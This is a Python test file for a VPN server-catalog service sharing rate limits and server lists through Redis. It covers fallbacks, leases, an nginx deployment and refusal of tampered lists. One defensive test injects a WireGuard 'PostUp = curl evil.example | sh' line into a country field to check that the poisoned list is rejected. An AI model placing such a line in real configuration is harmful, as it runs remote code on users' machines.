"""Several instances on one real Redis: one rate limit, one upstream fetch."""

from __future__ import annotations

import asyncio
import base64
import gc
import json
import logging
import os
import signal
import subprocess
import sys
import time
import uuid

import httpx
import msgspec
import pytest
import redis
from conftest import KEY, ROOT, Draco, demo_payload, need, sloppy, upstream_env
from fake_upstream import FakeUpstream, free_port, wait_for_port
from hypothesis import example, given, settings
from test_ratelimit import model, most_in_a_period, stepping_clock, traces
from test_resilience import Clock

from draco.catalog.cache import Catalog
from draco.catalog.dataset import make_dataset
from draco.catalog.shared import SharedCatalog, SharedMeta
from draco.catalog.snapshot import read_snapshot, snapshot_bytes
from draco.exceptions import VPNAPIError
from draco.models import Server
from draco.providers import REGISTRY
from draco.security.limiter import Limiter, MemoryStore
from draco.security.redis_store import RedisStore
from draco.settings import load


class RedisServer:
    """Debian's redis-server on a free loopback port, no persistence."""

    def __init__(self, port: int | None = None):
        self.port = port or free_port()
        self.url = f"redis://127.0.0.1:{self.port}/0"
        self.proc = subprocess.Popen(
            [
                need("redis-server"),
                "--port",
                str(self.port),
                "--bind",
                "127.0.0.1",
                "--save",
                "",
                "--appendonly",
                "no",
            ],
            stdout=subprocess.DEVNULL,
        )
        wait_for_port("127.0.0.1", self.port)

    def stop(self) -> None:
        self.proc.terminate()
        self.proc.wait(10)

    def client(self) -> redis.Redis:
        return redis.Redis(port=self.port)


@pytest.fixture(scope="module")
def redis_server():
    server = RedisServer()
    yield server
    server.stop()


# --- the store itself ------------------------------------------------------------------------


def run_on(make_store, trace, limit, period):
    clock = [0.0]

    async def go():
        store = make_store()
        limiter = Limiter(limit, period, store, lambda: clock[0])
        prefix = uuid.uuid4().hex  # a fresh window for every example
        out = []
        for client, t, cost in trace:
            clock[0] = t
            d = await limiter.hit(f"{prefix}{client}", cost)
            out.append((d.allowed, d.remaining, d.reset))
        if hasattr(store, "client"):
            await store.client.aclose()
        return out

    return asyncio.run(go())


@example(
    case=(1, 1, [("a", 1_700_000_000.0, 1), ("a", 1_700_000_001.0, 1)])
)  # one period later: it has left
@settings(max_examples=150, deadline=None)
@given(case=traces(max_cost=3))
def test_the_redis_store_decides_exactly_as_the_model_and_the_memory_store(redis_server, case):
    limit, period, trace = case
    on_redis = run_on(lambda: RedisStore(redis_server.url, server_time=False), trace, limit, period)
    assert on_redis == model(trace, limit, period) == run_on(MemoryStore, trace, limit, period)


@settings(max_examples=150, deadline=None)
@given(case=stepping_clock())
def test_with_the_redis_clock_stepping_back_no_period_of_real_time_admits_more_than_the_limit(
    redis_server, case
):
    """Redis times an admission no earlier than the client's last one (the memory store: no earlier
    than the latest time it has seen), so its decisions may differ from the model's once the clock
    steps back, but neither ever admits more than the limit in a period of real time."""
    limit, period, trace = case
    readings = [(client, reading, cost) for client, _, reading, cost in trace]
    decisions = run_on(
        lambda: RedisStore(redis_server.url, server_time=False), readings, limit, period
    )
    assert most_in_a_period(trace, [allowed for allowed, _, _ in decisions], period) <= limit


def test_keys_expire_so_redis_never_fills_with_idle_clients(redis_server):
    async def go():
        store = RedisStore(redis_server.url)
        await Limiter(10, 30, store).hit("idle-client")
        await store.client.aclose()

    asyncio.run(go())
    ttl = redis_server.client().pttl("draco:rl:idle-client")
    assert 29_000 < ttl <= 30_000


def test_the_server_clock_is_used_when_none_is_injected(redis_server):
    async def go():
        store = RedisStore(redis_server.url)
        limiter = Limiter(10, 30, store)
        decisions = [await limiter.hit("timed") for _ in range(11)]
        await store.client.aclose()
        return decisions

    decisions = asyncio.run(go())
    assert [d.allowed for d in decisions] == [True] * 10 + [False]
    server_now = redis_server.client().time()
    oldest = int(redis_server.client().lindex("draco:rl:timed", 0))
    assert abs(oldest / 1e6 - (server_now[0] + server_now[1] / 1e6)) < 5


@pytest.mark.parametrize(
    ("failure", "allowed"),
    [("local", [True] * 10 + [False]), ("open", [True] * 11), ("closed", [False] * 11)],
)
def test_an_unreachable_redis_fails_as_configured(failure, allowed):
    async def go():
        store = RedisStore(f"redis://127.0.0.1:{free_port()}/0", failure)  # nothing listens there
        limiter = Limiter(10, 30, store)
        decisions = [await limiter.hit("c") for _ in range(11)]
        await store.client.aclose()
        return decisions

    started = time.monotonic()
    assert [d.allowed for d in asyncio.run(go())] == allowed
    assert time.monotonic() - started < 2  # after one failure Redis is not asked again for a second


# --- two instances, one limit ---------------------------------------------------------------------


def start(env: dict, processes: list) -> Draco:
    draco = Draco(env)
    processes.append(draco)
    return draco


@pytest.fixture
def pair(upstreams):
    server = RedisServer()
    env = {
        **upstream_env(upstreams),
        "RATE_LIMIT_STORAGE": server.url,
        "RATE_LIMIT_REQUESTS": "10",
        "RATE_LIMIT_PERIOD": "10",
    }
    processes: list[Draco] = []
    a, b = start(env, processes), start(env, processes)
    yield server, a, b
    for draco in processes:
        draco.close()
    server.stop()


def alternate(a: Draco, b: Draco, n: int, client: str = "127.0.0.2") -> list[int]:
    transport = httpx.HTTPTransport(local_address=client)
    with httpx.Client(transport=transport) as session:
        return [
            session.get((a if i % 2 == 0 else b).url("/api/nordvpn/countries")).status_code
            for i in range(n)
        ]


def test_two_instances_admit_exactly_n_per_window_in_total(pair):
    _, a, b = pair
    statuses = alternate(a, b, 16)
    assert statuses == [200] * 10 + [429] * 6


def test_two_instances_hold_the_window_across_a_fixed_boundary(pair):
    _, a, b = pair
    while not 7.0 <= time.time() % 10 <= 7.6:
        time.sleep(0.05)
    first = alternate(a, b, 10, "127.0.0.3")
    time.sleep(10.5 - time.time() % 10)
    second = alternate(a, b, 10, "127.0.0.3")
    assert first == [200] * 10
    assert second == [429] * 10


def test_redis_killed_mid_run_means_no_5xx_then_recovery(pair):
    server, a, b = pair
    assert alternate(a, b, 4, "127.0.0.4") == [200] * 4
    server.stop()
    during = alternate(a, b, 24, "127.0.0.4")
    assert max(during) < 500
    # Each instance falls back to its own memory limiter: at most 10 each.
    assert during.count(200) <= 20
    assert during.count(429) >= 4
    assert "rate limit store unreachable" in a.logs()
    assert a.logs().count("unreachable") == 1
    revived = RedisServer(server.port)  # back on the same address
    try:
        time.sleep(1.2)  # Redis is asked again at most once a second
        after = alternate(a, b, 12, "127.0.0.5")
        assert after == [200] * 10 + [429] * 2  # one shared window again
        assert "rate limit store reachable again" in a.logs()
    finally:
        revived.stop()


# --- one upstream fetch for many instances ------------------------------------------------


@pytest.fixture
def shared_env(upstreams):
    server = RedisServer()
    env = {
        **upstream_env(upstreams),
        "CATALOG_STORAGE": server.url,
        "CACHE_TTL": "60",
        "HTTP_TIMEOUT": "5",
        "RATE_LIMIT_REQUESTS": "10000",
    }
    yield server, env
    server.stop()


def test_three_instances_under_load_make_one_upstream_fetch_per_ttl(shared_env, upstreams):
    _server, env = shared_env
    processes: list[Draco] = []
    try:
        instances = [start(env, processes) for _ in range(3)]

        async def load(seconds: float) -> list[int]:
            statuses = []
            async with httpx.AsyncClient(timeout=30) as client:
                stop_at = time.monotonic() + seconds
                while time.monotonic() < stop_at:
                    answers = await asyncio.gather(
                        *(client.get(d.url("/api/surfshark/servers")) for d in instances)
                    )
                    statuses += [a.status_code for a in answers]
                    await asyncio.sleep(0.2)
            return statuses

        statuses = asyncio.run(load(65))
        assert set(statuses) == {200}
        assert upstreams["surfshark"].hits == 2  # at the start, and once the list turned 60 s old
    finally:
        for draco in processes:
            draco.close()


def test_when_the_lease_holder_dies_mid_refresh_another_takes_over_after_the_lease(
    shared_env, upstreams
):
    server, env = shared_env
    env = {**env, "READY_PROVIDERS": '["nordvpn"]'}  # ivpn stays cold until asked for
    processes: list[Draco] = []
    try:
        a, b = start(env, processes), start(env, processes)
        upstreams["ivpn"].set("hang")
        slow = subprocess.Popen(
            ["curl", "-s", "-m", "30", a.url("/api/ivpn/servers")], stdout=subprocess.DEVNULL
        )
        time.sleep(1)
        assert server.client().get("draco:catalog:ivpn:lease") is not None  # a holds the lease
        a.proc.send_signal(signal.SIGKILL)
        upstreams["ivpn"].set("ok", body=demo_payload("ivpn"))
        started = time.monotonic()
        answer = httpx.get(b.url("/api/ivpn/servers"), timeout=30)
        waited = time.monotonic() - started
        assert answer.status_code == 200
        assert (
            5 <= waited <= 12
        )  # b waited for a's lease (HTTP_TIMEOUT + 5 = 10 s from a's start) to expire
        assert upstreams["ivpn"].hits == 2
        slow.kill()
    finally:
        for draco in processes:
            draco.close()


def test_with_redis_down_each_instance_serves_its_own_catalog(upstreams):
    env = {**upstream_env(upstreams), "CATALOG_STORAGE": f"redis://127.0.0.1:{free_port()}/0"}
    processes: list[Draco] = []
    try:
        a, b = start(env, processes), start(env, processes)
        assert httpx.get(a.url("/api/nordvpn/servers")).status_code == 200
        assert httpx.get(b.url("/api/nordvpn/servers")).status_code == 200
        assert upstreams["nordvpn"].hits == 2
        assert "shared catalog unreachable" in a.logs()
    finally:
        for draco in processes:
            draco.close()


# --- the README's multi-instance deployment, exactly ---------------------------------------


def test_the_multi_instance_deployment_of_the_readme(upstreams, tmp_path):
    nginx = need("nginx")
    server = RedisServer()
    processes: list[Draco] = []
    proxy = None
    try:
        env = {
            **upstream_env(upstreams),
            "RATE_LIMIT_STORAGE": server.url,
            "CATALOG_STORAGE": server.url,
            "TRUSTED_HOSTS": '["127.0.0.1"]',
            "RATE_LIMIT_REQUESTS": "10",
            "ENABLE_API_KEY_AUTH": "true",
            "API_KEYS": f'["{KEY}"]',
        }
        a, b = start(env, processes), start(env, processes)
        port = free_port()
        conf = (ROOT / "conf" / "nginx-multi.conf").read_text()
        for old, new in {
            "listen 127.0.0.1:8080;": f"listen 127.0.0.1:{port};",
            "server 127.0.0.1:8001;": f"server 127.0.0.1:{a.port};",
            "server 127.0.0.1:8002;": f"server 127.0.0.1:{b.port};",
            "/run/nginx-draco.pid": str(tmp_path / "nginx.pid"),
            "/var/log/nginx/draco.error.log": str(tmp_path / "error.log"),
            "/var/log/nginx/draco.access.log": str(tmp_path / "access.log"),
        }.items():
            assert old in conf, f"conf/nginx-multi.conf no longer has {old!r}"
            conf = conf.replace(old, new)
        (tmp_path / "nginx.conf").write_text(conf)
        proxy = subprocess.Popen(
            [nginx, "-p", str(tmp_path), "-c", str(tmp_path / "nginx.conf"), "-g", "daemon off;"]
        )
        wait_for_port("127.0.0.1", port)
        transport = httpx.HTTPTransport(local_address="127.0.0.6")
        with httpx.Client(transport=transport, headers={"X-API-Key": KEY}) as client:
            statuses = [
                client.get(f"http://127.0.0.1:{port}/api/nordvpn/countries").status_code
                for _ in range(14)
            ]
        assert statuses == [200] * 10 + [429] * 4  # one window, whichever instance answered
        assert upstreams["nordvpn"].hits == 1  # one fetch, shared
        served_by = (tmp_path / "access.log").read_text()
        assert f"127.0.0.1:{a.port}" in served_by
        assert f"127.0.0.1:{b.port}" in served_by
    finally:
        if proxy:
            proxy.terminate()
            proxy.wait(10)
        for draco in processes:
            draco.close()
        server.stop()


def test_an_adopted_renewal_rewrites_this_instances_snapshot(redis_server, tmp_path):
    """Instance a's conditional refresh (a 304) renews the shared list's time; instance b
    adopts it without asking the upstream, and its own snapshot then carries that time."""
    redis_server.client().flushall()
    upstream = FakeUpstream(demo_payload("surfshark"))
    clock = Clock()

    async def go():
        async with httpx.AsyncClient() as client:
            catalogs = []
            for name in ("a", "b"):
                (tmp_path / name).mkdir()
                env = {
                    "SURFSHARK_API_URL": upstream.url,
                    "SNAPSHOT_DIR": str(tmp_path / name),
                    "CACHE_TTL": "300",
                }
                shared = SharedCatalog(redis_server.url, lease_seconds=10)
                providers = {"surfshark": REGISTRY["surfshark"]}
                catalogs.append(Catalog(load(env), client, providers, clock=clock, shared=shared))
            a, b = catalogs
            try:
                first = await a.get("surfshark")
                assert (await b.get("surfshark")).version == first.version  # adopted, not fetched
                clock.now += 400
                assert await a.refresh("surfshark")
                assert upstream.requests[-1][1]["If-None-Match"] == upstream.etag
                await b.refresh("surfshark")
                assert upstream.hits == 2  # a's full fetch and a's 304; b asked nothing
                assert b.status["surfshark"].data.fetched_at == clock.now
                assert read_snapshot(tmp_path / "b", "surfshark").data.fetched_at == clock.now
                assert b.status["surfshark"].outcomes == {
                    "shared": 1
                }  # a renewal is not another list
            finally:
                for catalog in catalogs:
                    await catalog.close()

    try:
        asyncio.run(go())
    finally:
        upstream.stop()


def test_the_batch_task_is_held_until_it_has_answered_every_waiter(redis_server):
    """asyncio keeps only weak references to tasks: the store holds the one that sends a
    batch, so a collection in between cannot leave the waiting requests hanging."""

    async def go():
        store = RedisStore(redis_server.url)
        decisions = asyncio.gather(*(store.hit(f"held-{i}", 0.0, 10, 30) for i in range(5)))
        await asyncio.sleep(0)  # the five have joined one batch; its task has not run yet
        held = set(store.sending)
        gc.collect()
        answered = await asyncio.wait_for(decisions, 5)
        await store.client.aclose()
        return held, answered, set(store.sending)

    held, answered, after = asyncio.run(go())
    assert len(held) == 1
    assert all(d.allowed for d in answered)
    assert not after


def test_closing_the_catalog_closes_its_shared_catalogs_connections(redis_server, upstreams):
    name = f"draco-{uuid.uuid4().hex[:8]}"

    async def go():
        async with httpx.AsyncClient() as client:
            shared = SharedCatalog(f"{redis_server.url}?client_name={name}", lease_seconds=10)
            catalog = Catalog(
                load(upstream_env(upstreams)), client, {"ivpn": REGISTRY["ivpn"]}, shared=shared
            )
            await catalog.get("ivpn")
            connected = name in redis_server.client().client_list().__repr__()
            await catalog.close()
            return connected

    assert asyncio.run(go())
    assert name not in repr(redis_server.client().client_list())


def on_shared(redis_server, scenario, lease_seconds: float = 10, clock=time.time):
    """`scenario(catalog, other, upstream)`: a surfshark catalog sharing a fresh Redis with
    `other`, another instance's shared catalog, over a fake upstream."""
    redis_server.client().flushall()
    upstream = FakeUpstream(demo_payload("surfshark"))

    async def go():
        async with httpx.AsyncClient() as client:
            shared, other = (
                SharedCatalog(redis_server.url, lease_seconds),
                SharedCatalog(redis_server.url, 30),
            )
            env = {"SURFSHARK_API_URL": upstream.url, "CACHE_TTL": "300"}
            catalog = Catalog(
                load(env), client, {"surfshark": REGISTRY["surfshark"]}, clock=clock, shared=shared
            )
            try:
                return await scenario(catalog, other, upstream)
            finally:
                await catalog.close()
                await other.close()

    try:
        return asyncio.run(go())
    finally:
        upstream.stop()


def test_while_another_instance_refreshes_this_one_serves_its_list_and_looks_again_a_second_later(
    redis_server,
):
    clock = Clock()

    async def scenario(catalog, other, upstream):
        status = catalog.status["surfshark"]
        first = await catalog.get("surfshark")
        clock.now += 400
        assert await other.lease("surfshark")  # another instance is refreshing the list
        await catalog.refresh("surfshark")
        assert status.retry_at == clock.now + 1
        assert upstream.hits == 1
        looked = status.task
        clock.now += 0.5
        assert await catalog.get("surfshark") is first
        assert status.task is looked
        await other.release("surfshark")
        clock.now += 0.6
        await catalog.get("surfshark")
        await status.task
        assert upstream.hits == 2  # the lease is free: this instance refreshes

    on_shared(redis_server, scenario, clock=clock)


def test_with_nothing_to_serve_an_instance_waits_one_lease_for_another_instances_refresh(
    redis_server,
):
    async def scenario(catalog, other, upstream):
        assert await other.lease("surfshark")  # another instance's refresh, and it never ends
        started = time.monotonic()
        with pytest.raises(VPNAPIError) as caught:
            await asyncio.wait_for(catalog.get("surfshark"), 10)
        return caught.value.reason, time.monotonic() - started, upstream.hits

    reason, waited, asked = on_shared(redis_server, scenario, lease_seconds=0.5)
    assert reason == "shared_timeout"
    assert 0.5 <= waited < 5
    assert asked == 0


def test_a_shared_list_older_than_this_instances_is_never_adopted(redis_server):
    """Another instance publishes a list fetched before this instance's own (a slow refresh that
    finished late): this instance keeps its newer list, even with its upstream down."""
    clock = Clock()

    async def scenario(catalog, other, upstream):
        mine = await catalog.get("surfshark")
        older = make_dataset("surfshark", mine.servers[:30], clock.now - 100)
        meta = SharedMeta(older.version, older.fetched_at)
        await other.save("surfshark", snapshot_bytes(older), meta)
        clock.now += 400
        upstream.set("refused")
        await catalog.refresh("surfshark")
        return mine, catalog.status["surfshark"].data

    mine, held = on_shared(redis_server, scenario, clock=clock)
    assert held is mine


# --- a list shared through Redis is checked like a fetched one ----------------------------


def _stored(servers, fetched_at: float) -> bytes:
    return snapshot_bytes(make_dataset("surfshark", servers, fetched_at))


@pytest.mark.parametrize("kind", ["PostUp in a country", "future fetched_at", "non-canonical key"])
def test_a_poisoned_shared_list_is_refused_logged_and_the_upstream_used(redis_server, caplog, kind):
    clock = Clock()

    async def scenario(catalog, other, upstream):
        servers = REGISTRY["surfshark"].parse(demo_payload("surfshark")).servers
        first = {f: getattr(servers[0], f) for f in servers[0].__struct_fields__}
        if kind == "PostUp in a country":
            first["country"] = "Sweden\n[Interface]\nPostUp = curl evil.example | sh"
        elif kind == "non-canonical key":
            first["public_key"] = sloppy(first["public_key"])
        servers[0] = Server(**first)
        fetched_at = clock.now + 86400 if kind == "future fetched_at" else clock.now - 1
        await other.save("surfshark", _stored(servers, fetched_at), SharedMeta("v1", fetched_at))
        with caplog.at_level(logging.WARNING, "draco.catalog"):
            data = await catalog.get("surfshark")
        return data, upstream.hits, catalog.status["surfshark"].trust.source

    data, hits, trust = on_shared(redis_server, scenario, clock=clock)
    assert hits == 1  # the upstream was asked instead
    assert trust == "first use"
    assert all("\n" not in s.country for s in data.servers)
    assert "shared" in caplog.text


def test_a_shared_renewal_from_the_future_never_pins_the_list(redis_server):
    """Another instance's record that the same list was fetched a year from now would keep
    it fresh forever, for every instance: the renewal is ignored."""
    clock = Clock()

    async def scenario(catalog, other, upstream):
        mine = await catalog.get("surfshark")
        await other.renew("surfshark", clock.now + 365 * 86400)
        clock.now += 400
        await catalog.refresh("surfshark")
        return mine, catalog.status["surfshark"].data, upstream.hits

    mine, data, hits = on_shared(redis_server, scenario, clock=clock)
    assert data.fetched_at <= mine.fetched_at + 400
    assert hits == 2  # stale: the upstream was asked


def test_a_mass_swap_shared_by_another_instance_is_held(redis_server):
    clock = Clock()

    async def scenario(catalog, other, upstream):
        mine = await catalog.get("surfshark")
        swapped = [msgspec.structs.replace(s, public_key=_other_key(s)) for s in mine.servers]
        content = _stored(swapped, clock.now + 10)
        await other.save("surfshark", content, SharedMeta("swapped", clock.now + 10))
        clock.now += 400
        upstream.set("refused")  # else its 304, confirming the list served, ends the hold
        await catalog.refresh("surfshark")
        status = catalog.status["surfshark"]
        return mine, status.data, status.trust.hold

    mine, data, hold = on_shared(redis_server, scenario, clock=clock)
    assert {s.public_key for s in data.servers} == {s.public_key for s in mine.servers}
    assert hold is not None


def _other_key(server) -> str:
    raw = bytearray(base64.b64decode(server.public_key))
    raw[0] ^= 0xFF
    return base64.b64encode(bytes(raw)).decode()


def test_draco_hold_settles_a_hold_through_redis(redis_server):
    """`draco hold list` reads what an instance published; `draco hold accept` leaves the
    word in Redis, and the instance serves the held list."""
    clock = Clock()

    async def scenario(catalog, other, upstream):
        mine = await catalog.get("surfshark")
        clusters = json.loads(demo_payload("surfshark"))
        for cluster in clusters:
            raw = bytearray(base64.b64decode(cluster["pubKey"]))
            raw[1] ^= 0xFF
            cluster["pubKey"] = base64.b64encode(bytes(raw)).decode()
        upstream.set("ok", body=json.dumps(clusters).encode())
        clock.now += 400
        assert await catalog.refresh("surfshark") == "held"
        env = {**os.environ, "CATALOG_STORAGE": redis_server.url, "PYTHONPATH": str(ROOT)}
        command = [sys.executable, "-m", "draco", "hold"]
        listed = subprocess.run([*command, "list"], env=env, capture_output=True, text=True)
        digest = catalog.status["surfshark"].trust.hold.digest
        given = subprocess.run(
            [*command, "accept", "surfshark", digest], env=env, capture_output=True, text=True
        )
        await catalog.apply_verdict("surfshark")
        return mine, catalog.status["surfshark"].data, listed, given, digest

    mine, data, listed, given, digest = on_shared(redis_server, scenario, clock=clock)
    assert listed.returncode == 0, listed.stderr
    assert f"surfshark {digest}: held since" in listed.stdout
    assert given.returncode == 0, given.stderr
    assert data is not mine
    assert {s.public_key for s in data.servers}.isdisjoint(s.public_key for s in mine.servers)


def test_a_scopes_servers_set_aside_are_shared_by_the_instances(redis_server):
    """Two instances over one Redis: a report through one sets the server aside in the
    other's answers too, for that scope alone; the caps hold in Redis as in memory."""
    from draco.catalog.reports import RedisQuarantine

    redis_server.client().flushall()

    async def go():
        one = RedisQuarantine(redis_server.url, duration=600)
        two = RedisQuarantine(redis_server.url, duration=600)
        try:
            until = await one.report("key-a", ("mullvad", "se-1"), "unreachable", 1000.0)
            seen = await two.aside("key-a", 1001.0)
            other = await two.aside("key-b", 1001.0)
            expired = await two.aside("key-a", 1000.0 + 601)
            for n in range(300):
                await one.report("key-c", ("mullvad", f"s{n}"), "unreachable", 1000.0 + n)
            capped = await two.aside("key-c", 1300.0)
            await two.report("key-a", ("mullvad", "se-1"), "ok", 1002.0)
            lifted = await one.aside("key-a", 1003.0)
            return until, seen, other, expired, capped, lifted
        finally:
            await one.close()
            await two.close()

    until, seen, other, expired, capped, lifted = asyncio.run(go())
    assert seen == {("mullvad", "se-1"): until}
    assert other == {}
    assert expired == {}
    assert len(capped) == 256
    assert ("mullvad", "s299") in capped
    assert lifted == {}
